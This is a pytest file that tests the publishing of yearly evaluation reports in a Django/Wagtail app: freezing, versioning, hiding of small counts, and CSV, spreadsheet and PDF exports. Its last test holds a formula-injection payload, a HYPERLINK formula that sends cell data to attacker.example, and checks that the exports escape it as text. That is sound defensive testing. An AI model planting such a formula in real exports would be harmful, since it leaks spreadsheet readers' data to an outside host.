"""Publishing the yearly report: a coordinator previews the year's figures (with the reasons
for what is hidden), confirms what becomes public, publishes, and the public page stores and
shows only what is safe; later data changes nothing on it; a second publication, an empty year,
a year not over and other people are refused with a message; a correction is a new version and
the old one stays readable; the CSV and the PDF hold the same tables, hidden cells as a dash."""

import csv
import datetime as dt
import io
import os

from django.urls import reverse
from django.utils import timezone

from wagtail.models import Site

import openpyxl
import pytest
from pypdf import PdfReader

from cms.models import EvaluationReportPage
from demo.factories import advance
from exchange.reports import services
from tests.exchange.reports.test_figures import year_of_visits  # noqa: F401  (a fixture)

pytestmark = pytest.mark.django_db
URL = reverse("evaluation_report")


@pytest.fixture
def year_ended(monkeypatch):
    """A clock in the January after the given year: the year is over (the visits the fixtures
    make end in the weeks after today)."""

    def after(year: int) -> None:
        monkeypatch.setattr(timezone, "localdate", lambda *args: dt.date(year + 1, 1, 15))

    return after


def publish(client, year, confirmed=True, **fields):
    data = {
        "year": str(year),
        "title": "Evaluation report (test)",
        "narrative": "Visits went well.\n\nMore next year.",
    }
    if confirmed:
        data["confirmed"] = "yes"
    return client.post(URL, {**data, **fields})


def test_a_coordinator_previews_and_publishes_a_frozen_report(
    client,
    coordinator,
    network,
    year_of_visits,  # noqa: F811
    year_ended,
):
    year_ended(year_of_visits)
    client.force_login(coordinator)
    preview = client.get(URL, {"year": year_of_visits}).content.decode()
    assert "Visits by where they stand" in preview and "fewer than 5 people" in preview
    assert "Kirkpatrick" in preview  # the coordinators' tool, named for them
    # First what will become public, and nothing published yet.
    confirm = publish(client, year_of_visits, confirmed=False)
    shown = confirm.content.decode()
    assert confirm.status_code == 200 and "What will become public" in shown
    assert "Visits went well." in shown and "Visits across a border" in shown
    assert "cannot be taken back" in shown
    assert not EvaluationReportPage.objects.exists()
    response = publish(client, year_of_visits)
    assert response.status_code == 302
    page = EvaluationReportPage.objects.get(year=year_of_visits)
    html = client.get(page.url).content.decode()
    assert "Visits went well." in html and "<svg" in html and "Across a border" in html
    assert "(fewer than 5 people)" not in html  # reasons stay with the coordinators
    # The evaluation levels in plain words: the model's tiers are the coordinators' tool.
    assert "How people found it" in html and "Kirkpatrick" not in html and "LTEM" not in html
    assert "Their totals differ" in html  # the tables' different bases, said once
    assert "hidden to protect the people counted" in html
    stored = str(page.figures)
    assert "reason" not in stored and "fewer than" not in stored
    # Free-text answers never reach a report: only the excerpt and consent path publishes words.
    assert "Useful." not in html and "Useful." not in stored
    assert "Useful." not in client.get(f"{page.url}csv/").content.decode()

    # New data changes nothing on the published page, as the public reads it.
    client.logout()
    before = client.get(page.url).content
    advance(network, "completed")
    assert client.get(page.url).content == before

    client.force_login(coordinator)
    assert publish(client, year_of_visits).status_code == 409  # frozen once
    assert "published already" in publish(client, year_of_visits).content.decode()


def test_an_empty_year_and_other_people_are_refused(client, coordinator, network):
    client.force_login(coordinator)
    untitled = publish(client, 2001, title="  ")
    assert untitled.status_code == 400 and "This field is required" in untitled.content.decode()
    with pytest.raises(services.ReportError, match="Give the report a title"):
        services.report_publish(year=2001, user=coordinator, title=" ", narrative="")
    response = publish(client, 2001)
    assert response.status_code == 409 and "nothing to report for 2001" in response.content.decode()
    assert publish(client, "not a year").status_code == 400
    client.force_login(network.visitor)
    assert client.get(URL)["Location"] == reverse("wagtailadmin_home")
    with pytest.raises(services.PermissionDenied):
        services.report_publish(year=2026, user=network.visitor, title="", narrative="")


def test_the_csv_and_pdf_hold_the_same_safe_tables(client, coordinator, year_of_visits, year_ended):  # noqa: F811
    year_ended(year_of_visits)
    page = services.report_publish(
        year=year_of_visits, user=coordinator, title="Evaluation report (test)", narrative=""
    )
    # The CSV: one row per count, numbers as numbers, a hidden count empty and said so.
    rows = list(csv.DictReader(io.StringIO(client.get(f"{page.url}csv/").content.decode())))
    assert {row["table"] for row in rows} >= {
        "Visits across a border",
        "Visits by where they stand",
    }
    # A table of one column has no column of row totals repeating it (a total row it has).
    border = [row for row in rows if row["table"] == "Visits across a border"]
    assert {row["column"] for row in border} == {"Visits"}
    assert "Total" in {row["group"] for row in border}
    hidden = [row for row in rows if row["shown"] == "False"]
    assert hidden and all(row["count"] == "" for row in hidden)
    shown = [int(row["count"]) for row in rows if row["shown"] == "True"]
    assert not any(0 < value < 5 for value in shown)
    # The spreadsheet: a sheet of notes, then one sheet per table, counts as numbers, the same.
    book = openpyxl.load_workbook(io.BytesIO(client.get(f"{page.url}xlsx/").content))
    assert book.sheetnames[0] == "Notes"
    assert len(book.sheetnames) == 1 + len(page.figures) + len(page.figures_before)
    assert "fewer than five people is hidden" in " ".join(
        str(row[0]) for row in book["Notes"].iter_rows(values_only=True)
    )
    for name in book.sheetnames[1:]:
        sheet = list(book[name].iter_rows(values_only=True))
        columns, title = sheet[1][1:], sheet[0][0]
        for line in sheet[2:]:
            for column, value in zip(columns, line[1:], strict=False):
                (row,) = [
                    r
                    for r in rows
                    if r["table"] == title
                    and r["group"] == line[0]
                    and r["column"] == column
                    and name.startswith(r["year"])
                ]
                assert value == ("–" if row["shown"] == "False" else int(row["count"]))
    try:
        import weasyprint  # noqa: F401
    except OSError:
        if os.environ.get("REQUIRE_PDF") == "1":
            raise
        pytest.skip("WeasyPrint cannot load Pango; `make system-deps`")
    pdf = client.get(f"{page.url}pdf/")
    assert pdf["Content-Type"] == "application/pdf"
    reader = PdfReader(io.BytesIO(pdf.content))
    text = " ".join(" ".join(p.extract_text() for p in reader.pages).split())
    assert "Evaluation report (test)" in text and "Visits across a border" in text
    assert "/StructTreeRoot" in reader.trailer["/Root"]


def test_the_year_before_is_read_from_its_published_report_not_recomputed(
    coordinator,
    network,
    year_of_visits,  # noqa: F811
    year_ended,
):
    """Had the year before been recomputed after late changes, its figures could differ from
    those published, and the difference would give hidden cells away."""
    year_ended(year_of_visits)
    assert services.figures_before(year_of_visits + 1)  # made now: nothing published yet
    page = services.report_publish(
        year=year_of_visits, user=coordinator, title="Report", narrative=""
    )
    advance(network, "completed")  # a late change to that year's data
    assert services.figures_before(year_of_visits + 1) == page.figures
    recomputed = [services.frozen(f) for f in services.figures_for(year_of_visits)]
    assert recomputed != page.figures


def test_a_year_frozen_as_the_year_before_is_published_with_those_figures(
    coordinator,
    network,
    year_of_visits,  # noqa: F811
    year_ended,
):
    """The next year's report froze this year as its "year before"; a late answer since; this
    year's own report, published after, shows the figures frozen then, not new ones."""
    year_ended(year_of_visits + 1)
    home = Site.objects.get(is_default_site=True).root_page
    following = home.add_child(
        instance=EvaluationReportPage(
            title="The next year",
            slug="next-year",
            year=year_of_visits + 1,
            figures_before=services.figures_before(year_of_visits + 1),
        )
    )
    advance(network, "completed")  # a late change to this year's data
    own = services.report_publish(year=year_of_visits, user=coordinator, title="Own", narrative="")
    assert own.figures == following.figures_before
    assert own.figures != [services.frozen(f) for f in services.figures_for(year_of_visits)]


def test_a_year_not_over_is_published_only_as_provisional_then_replaced_by_the_final(
    client,
    coordinator,
    year_of_visits,  # noqa: F811
    year_ended,
):
    client.force_login(coordinator)
    early = publish(client, year_of_visits)
    assert early.status_code == 409 and "has not ended" in early.content.decode()
    assert publish(client, year_of_visits, provisional="on").status_code == 302
    page = EvaluationReportPage.objects.get(year=year_of_visits)
    assert page.provisional and page.version == 1
    assert "Provisional" in client.get(page.url).content.decode()
    again = publish(client, year_of_visits, provisional="on")
    assert again.status_code == 409 and "published already" in again.content.decode()

    year_ended(year_of_visits)
    late = publish(client, year_of_visits, provisional="on")
    assert late.status_code == 409 and "publish its final report" in late.content.decode()
    assert publish(client, year_of_visits, title="Final").status_code == 302
    page.refresh_from_db()
    assert not page.provisional and page.version == 2 and page.title == "Final"
    assert "final figures replace the provisional" in client.get(page.url).content.decode()
    first = client.get(f"{page.url}versions/1/").content.decode()
    assert "Provisional" in first and "A later version replaces it" in first


def test_a_correction_is_a_new_version_and_the_frozen_one_stays_readable(
    client,
    coordinator,
    year_of_visits,  # noqa: F811
    year_ended,
):
    year_ended(year_of_visits)
    page = services.report_publish(
        year=year_of_visits, user=coordinator, title="Report", narrative="Visits went wel."
    )
    client.force_login(coordinator)
    correction = {"action": "correct", "year": str(year_of_visits), "title": "Report"}
    correction["narrative"] = "Visits went well."
    no_note = client.post(URL, {**correction, "confirmed": "yes"})
    assert no_note.status_code == 400 and not page.earlier_versions
    # Summarised where the page opens, above the year's figures, linking to the field.
    html = no_note.content.decode()
    assert html.index("There is a problem") < html.index("Visits by where they stand")
    assert 'href="#id_note"' in html
    confirm = client.post(URL, {**correction, "note": "A typo in the narrative."})
    assert "never computes them again" in confirm.content.decode()
    done = client.post(URL, {**correction, "note": "A typo in the narrative.", "confirmed": "yes"})
    assert done.status_code == 302
    page.refresh_from_db()
    assert page.version == 2 and "went well." in page.narrative
    assert page.figures == page.earlier_versions[0]["figures"]  # never computed again
    client.logout()
    current = client.get(page.url).content.decode()
    assert "A typo in the narrative." in current and "Version 1" in current
    first = client.get(f"{page.url}versions/1/").content.decode()
    assert "went wel." in first and "A later version replaces it" in first
    assert client.get(f"{page.url}versions/7/").status_code == 404
    with pytest.raises(services.ReportError, match="nothing to correct"):
        services.report_correct(
            year=year_of_visits,
            user=coordinator,
            title="Report",
            narrative="Visits went well.",
            note="Again.",
        )


def test_a_title_that_looks_like_a_formula_stays_text_in_the_csv_and_spreadsheet(client, home_page):
    """A theme titled "=HYPERLINK(...)" became a formula that a reader's spreadsheet ran."""
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"Open")'
    figure = {
        "key": "themes",
        "title": "Themes and what they rest on",
        "level": "",
        "scale": False,
        "totals": True,
        "rows": [formula, "+SUM(1,2)"],
        "columns": ["Excerpts"],
        "cells": [[7, 7], [8, 8], [15, 15]],
        "means": [None, None],
    }
    page = home_page.add_child(
        instance=EvaluationReportPage(title="Report", slug="report", year=2020, figures=[figure])
    )
    rows = list(csv.DictReader(io.StringIO(client.get(f"{page.url}csv/").content.decode())))
    labels = [row["group"] for row in rows]
    assert "'" + formula in labels and "'+SUM(1,2)" in labels
    assert formula not in labels
    book = openpyxl.load_workbook(io.BytesIO(client.get(f"{page.url}xlsx/").content))
    sheet = book[book.sheetnames[1]]  # the table's own sheet, after the notes
    cells = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row if cell.value}
    assert cells[formula] == "s" and cells["+SUM(1,2)"] == "s"  # text, not a formula
